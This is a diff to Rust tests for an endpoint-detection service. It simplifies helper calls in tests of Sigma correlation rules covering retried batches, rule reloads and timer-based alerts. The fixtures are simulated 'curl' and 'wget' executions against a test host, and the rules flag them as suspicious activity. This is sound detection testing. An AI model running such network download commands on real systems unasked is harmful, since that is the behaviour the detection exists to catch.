         let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
-        assert_eq!(
-            post_events(&w.app, &w.a().device().token, "r1", two.clone()).await["alerts"],
-            0
-        );
+        assert_eq!(post_a(&w, "r1", two.clone()).await["alerts"], 0);
         // The retry: still two matches, not four (which would complete the correlation).
-        let r = post_events(&w.app, &w.a().device().token, "r1", two).await;
+        let r = post_a(&w, "r1", two).await;
         assert_eq!(
             r["alerts"], 0,
             "{name}: the retried batch was counted again: {r}"
         );
         // The third match completes it.
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "r2",
-            vec![curl("2026-12-01T10:00:10Z")],
-        )
-        .await;
+        let r = post_a(&w, "r2", vec![curl("2026-12-01T10:00:10Z")]).await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
         // A batch that completed one, retried: the same alert, not a second count.
         let three = vec![
@@ -993,24 +779,12 @@ async fn sigma_correlations_count_a_retried_batch_once() {
             curl("2026-12-01T10:01:01Z"),
             curl("2026-12-01T10:01:02Z"),
         ];
-        assert_eq!(
-            post_events(&w.app, &w.a().device().token, "r3", three.clone()).await["alerts"],
-            1
-        );
-        assert_eq!(
-            post_events(&w.app, &w.a().device().token, "r3", three).await["alerts"],
-            1
-        );
+        assert_eq!(post_a(&w, "r3", three.clone()).await["alerts"], 1);
+        assert_eq!(post_a(&w, "r3", three).await["alerts"], 1);
         let items = alerts_of(&w, "9d2c1f00-0000-4000-8000-000000000002").await;
         assert_eq!(items.len(), 2, "{name}: {items:?}");
         // Nothing left over from the retries: one more match is the first of a new window.
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "r4",
-            vec![curl("2026-12-01T10:01:03Z")],
-        )
-        .await;
+        let r = post_a(&w, "r4", vec![curl("2026-12-01T10:01:03Z")]).await;
         assert_eq!(r["alerts"], 0, "{name}: {r}");
     }
 }
@@ -1022,24 +796,14 @@ async fn sigma_correlations_survive_a_rule_reload() {
     let dir = tempfile::tempdir().unwrap();
     for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
-        let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
         let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
-        assert_eq!(
-            post_events(&w.app, &w.a().device().token, "s1", two).await["alerts"],
-            0
-        );
+        assert_eq!(post_a(&w, "s1", two).await["alerts"], 0);
         let handle = w.state.scoring.rules().unwrap().clone();
         let rules_dir = handle.dir().unwrap().to_path_buf();
-        std::fs::write(rules_dir.join("timer.yml"), SIGMA_FEW).unwrap();
+        std::fs::write(rules_dir.join("timer.yml"), sigma_few()).unwrap();
         handle.reload().unwrap();
         assert_eq!(handle.status().generation, 2);
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "s2",
-            vec![curl("2026-12-01T10:00:10Z")],
-        )
-        .await;
+        let r = post_a(&w, "s2", vec![curl("2026-12-01T10:00:10Z")]).await;
         assert_eq!(
             r["alerts"], 1,
             "{name}: the reload reset the correlation: {r}"
@@ -1056,16 +820,10 @@ async fn sigma_correlation_upper_bound_fires_on_the_timer() {
     for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
         let handle = w.state.scoring.rules().unwrap().clone();
-        std::fs::write(handle.dir().unwrap().join("timer.yml"), SIGMA_FEW).unwrap();
+        std::fs::write(handle.dir().unwrap().join("timer.yml"), sigma_few()).unwrap();
         handle.reload().unwrap();
         let wget = |ts: &str| exec(ts, "wget", &["wget", "http://example.test/"], None);
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "t1",
-            vec![wget("2026-12-01T11:00:00Z")],
-        )
-        .await;
+        let r = post_a(&w, "t1", vec![wget("2026-12-01T11:00:00Z")]).await;
         assert_eq!(r["alerts"], 0, "{name}: {r}");
         // Before the window is over (event time, plus the grace for late uploads): nothing.
         let early = chrono::DateTime::parse_from_rfc3339("2026-12-01T11:00:30Z")
@@ -1093,12 +851,6 @@ async fn sigma_correlation_upper_bound_fires_on_the_timer() {
         let a = &items[0];
         assert_eq!(a["risk_score"], 140, "{a}");
         assert_eq!(a["device_id"], w.a().device().id.as_str(), "{a}");
-        assert!(
-            a["event"]["ts"]
-                .as_str()
-                .unwrap()
-                .starts_with("2026-12-01T11:00:00"),
-            "{a}"
-        );
+        assert!(event_ts(a).starts_with("2026-12-01T11:00:00"), "{a}");
     }
 }
